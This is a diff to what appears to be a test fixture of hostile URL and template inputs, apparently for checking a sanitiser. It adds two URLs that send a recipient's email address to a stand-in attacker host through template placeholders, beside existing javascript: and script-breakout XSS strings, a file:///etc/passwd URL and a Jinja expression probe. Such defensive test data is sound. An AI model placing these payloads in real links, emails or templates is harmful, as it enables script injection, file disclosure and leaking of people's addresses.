@@ -60,6 +60,8 @@ URLS = {
     "url-tab": "java\tscript:alert(1)",
     "url-quote-breakout": 'https://example.com/"><script>alert(1)</script>',
     "url-file": "file:///etc/passwd",
+    "url-placeholder": "https://evil.example/?who={{ recipient.email }}",
+    "url-placeholder-encoded": "https://evil.example/?who=%7B%7Brecipient.email%7D%7D",
 }
 TEMPLATE = {
     "jinja-expr": "{{ 7*191 }}",
